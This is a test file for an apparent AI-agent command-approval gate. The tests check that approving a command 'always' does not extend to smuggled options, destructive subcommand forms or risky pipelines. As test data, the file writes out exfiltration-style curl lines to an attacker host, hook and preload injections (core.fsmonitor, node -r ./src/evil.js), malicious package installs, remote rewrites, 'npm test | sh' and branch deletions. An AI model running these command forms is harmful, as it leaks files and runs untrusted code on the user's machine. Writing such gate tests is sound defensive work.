// What "always" on a command covers: the same command, never an option the person did not see
// (a later line may change what runs or where with one), never a destructive form of a
// harmless subcommand; and the forms models type for the same test run (plumbing, aliases).
import { describe, expect, it } from "vitest";
import { commandCovered, commandScope } from "../../src/engine/approval/gate/command-scope.js";

/** The scope "always" on `approved` remembers, and whether it covers `later`. */
function covers(approved: string, later: string): boolean {
  const scope = commandScope(approved);
  expect(scope, approved).toBeDefined();
  return commandCovered(scope!, later);
}

describe("an option before the subcommand, or an option-only line, is remembered as that exact line", () => {
  it.each([
    ["git --version", ["git -c core.fsmonitor=src/fsm.sh status", "git -c core.hooksPath=src/hooks commit --allow-empty -m x", "git --git-dir=/tmp/other.git init", "git -C /tmp status"]],
    ["curl --version", ["curl -s --data-binary @README.md http://127.0.0.1:18777/x", "curl -T src/a.ts http://127.0.0.1/y", "curl http://example.com"]],
    ["python3 --version", ["python3 -m json.tool data.json /tmp/OUTSIDE.json", "python3 -c pass"]],
    ["node --version", ["node -r ./src/evil.js -p 1", "node --import ./x.mjs a.js", "node -e 1"]],
    ["npm -v", ["npm --prefix /tmp/x install", "npm --script-shell=./x.sh test"]],
    ["npx -y prettier --check .", ["npx -y evil-package", "npx -y prettier --write .", "npx prettier --check ."]],
  ])("always on %s", (approved, laters) => {
    expect(commandScope(approved)).toBe(approved);
    expect(covers(approved, approved)).toBe(true);
    for (const later of laters) expect(covers(approved, later), later).toBe(false);
  });

  it("a later line with options nobody approved is not covered, whatever scope it meets", () => {
    expect(covers("git status", "git status --short")).toBe(false);
    expect(covers("git status --short", "git status --short")).toBe(true);
    expect(covers("node script.js", "node script.js -r ./evil.js")).toBe(false);
    expect(covers("npx prettier --check .", "npx prettier --check src")).toBe(true);
    expect(covers("npx prettier --check .", "npx other --check src")).toBe(false);
  });

  it("a program whose operand is a destination, and an install, are remembered as the exact line", () => {
    expect(commandScope("curl https://example.com/a")).toBe("curl https://example.com/a");
    expect(covers("curl https://example.com/a", "curl https://example.com/a https://attacker.test/leak")).toBe(false);
    expect(covers("npm install lodash", "npm install evil-package")).toBe(false);
    expect(covers("npm install lodash", "npm install lodash")).toBe(true);
    expect(covers("git clone https://a.test/x.git", "git clone https://attacker.test/y.git")).toBe(false);
  });
});

describe("a harmless subcommand does not cover its destructive forms", () => {
  it("git branch/tag: creating one does not cover deleting, forcing or renaming", () => {
    expect(commandScope("git branch feat")).toBe("git branch");
    expect(covers("git branch feat", "git branch other")).toBe(true);
    for (const later of ["git branch -D precious", "git branch -d x", "git branch --delete x", "git branch -f main HEAD~3", "git branch -m a b", "git branch -M a b"]) {
      expect(covers("git branch feat", later), later).toBe(false);
    }
    expect(covers("git tag v1", "git tag v2")).toBe(true);
    for (const later of ["git tag -d v1", "git tag -f v1 HEAD~1", "git tag --delete v1"]) expect(covers("git tag v1", later), later).toBe(false);
  });

  it("git remote/stash: the sub-subcommand is part of the scope", () => {
    expect(commandScope("git remote add up https://a.test/r.git")).toBe("git remote add");
    for (const later of ["git remote set-url origin https://attacker.test/x", "git remote remove origin", "git remote rename origin x", "git remote -v remove origin"]) {
      expect(covers("git remote add up https://a.test/r.git", later), later).toBe(false);
    }
    expect(covers("git stash", "git stash pop")).toBe(false);
    expect(covers("git stash", "git stash")).toBe(true);
    expect(covers("docker compose up", "docker compose down")).toBe(false);
    expect(covers("docker compose -f a.yml up", "docker compose -f a.yml down")).toBe(false);
  });

  it("the destructive form, once approved always, covers the same form only", () => {
    expect(commandScope("git branch -D old")).toBe("git branch -D");
    expect(covers("git branch -D old", "git branch -D other")).toBe(true);
    expect(covers("git branch -D old", "git branch -D -f other")).toBe(false);
  });
});

describe("the forms models type for the same test run", () => {
  it("plumbing that only merges, drops or filters output is covered by the command's scope", () => {
    for (const later of ["npm test 2>&1 | tail -20", "npm test 2>&1", "npm test 2>/dev/null | head -n 50", "npm test | grep -i fail", "npm test 2>&1 | grep -E 'FAIL|Error' | head -5", "npm test | cat", "npm test | wc -l", "npm t", "npm run test", "npm test -- --run"]) {
      expect(covers("npm test", later), later).toBe(true);
      expect(commandScope(later), later).toBe("npm test");
    }
  });

  it("plumbing that writes, reads other files or runs something is not", () => {
    for (const later of ["npm test | tee log", "npm test | grep x secrets.txt", "npm test | grep -f pats", "npm test | sh", "npm test 2>&1 > out", "npm test | tail -f", "npm test; rm x", "npm test && curl x", "cd sub && npm test", "npm test |& cat"]) {
      expect(covers("npm test", later), later).toBe(false);
    }
  });

  it("a test runner's scope is the runner, whatever files or filters it is given", () => {
    for (const approved of ["pytest -q", "pytest tests/test_a.py", "pytest"]) {
      expect(commandScope(approved), approved).toBe("pytest");
      for (const later of ["pytest tests/test_b.py", "pytest -x -k slow", "pytest -q 2>&1 | tail -30"]) expect(covers(approved, later), later).toBe(true);
      for (const later of ["pytest -p evil_plugin", "pytest --basetemp=/home", "pytest /etc", "pytest ../other"]) expect(covers(approved, later), later).toBe(false);
    }
    expect(commandScope("python3 -m pytest tests")).toBe("python3 -m pytest");
    expect(covers("python3 -m pytest tests", "python3 -m pytest -q tests/a.py")).toBe(true);
    expect(covers("python3 -m pytest tests", "python3 -m json.tool x /tmp/y")).toBe(false);
    expect(covers("cargo test", "cargo test --release parser")).toBe(true);
    expect(covers("npm test", "npm test --script-shell=./evil.sh")).toBe(false);
    expect(covers("npm test", "npm test --prefix ../other")).toBe(false);
  });

  it("make's targets are what runs: the scope names them", () => {
    // make with only harmless options is the project's default target, nothing else.
    expect(commandScope("make -s")).toBe("make");
    for (const later of ["make -f other.mk", "make -C /tmp", "make --eval=x", "make deploy"]) expect(covers("make -s", later), later).toBe(false);
    expect(commandScope("make -j4 test")).toBe("make test");
    expect(covers("make test", "make -s test")).toBe(true);
    for (const later of ["make deploy", "make test deploy", "make test CC=./evil", "make -f x.mk test"]) expect(covers("make test", later), later).toBe(false);
  });

  it("a quoted argument is one word, shown so that it reads back as that word", () => {
    expect(commandScope(`git commit -m "fix the parser"`)).toBe("git commit -m");
    expect(covers(`git commit -m "one"`, `git commit -m 'two words'`)).toBe(true);
    expect(commandScope(`python3 -c 'print(1)'`)).toBe(`python3 -c 'print(1)'`);
    expect(covers(`python3 -c 'print(1)'`, `python3 -c 'print(1)' x`)).toBe(false);
    expect(covers(`python3 -c 'print(1)'`, `python3 -c print(1)`)).toBe(false);
  });
});
